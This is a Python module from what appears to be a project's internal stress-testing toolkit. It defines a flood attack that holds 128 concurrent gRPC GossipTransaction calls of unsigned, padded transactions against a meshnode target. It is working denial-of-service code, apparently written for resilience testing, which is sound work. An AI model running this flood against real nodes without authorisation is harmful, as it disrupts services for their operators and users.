"""Gossips transactions that are not signed, over and over."""

from __future__ import annotations

import itertools
from collections.abc import Sequence

import trio

from meshnode.wire import node_pb2 as pb
from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold
from tools.siege.grpc_frames import PREFACE, ROOM, Ends, call

CONNECTIONS, CALLS = 8, 16


async def attack(target: Target, sources: Sequence[str]) -> None:
    """Keep 128 calls in flight."""
    asked = pb.GossipTransactionRequest(transaction=b"{}" * 2000)
    message = asked.SerializeToString()

    async def visit(stream: trio.SocketStream) -> None:
        ids, ends = itertools.count(1, 2), Ends()

        def calls(count: int) -> bytes:
            return b"".join(call(next(ids), "GossipTransaction", message) for _ in range(count))

        await stream.send_all(PREFACE + ROOM + calls(CALLS))
        while received := await stream.receive_some(65536):
            if ended := ends.feed(received):
                await stream.send_all(calls(ended))

    await hold([Crowd(target.host, target.grpc_port, CONNECTIONS)], sources, visit)


ATTACK = Attack("transactions without a signature, 128 calls at a time", attack)
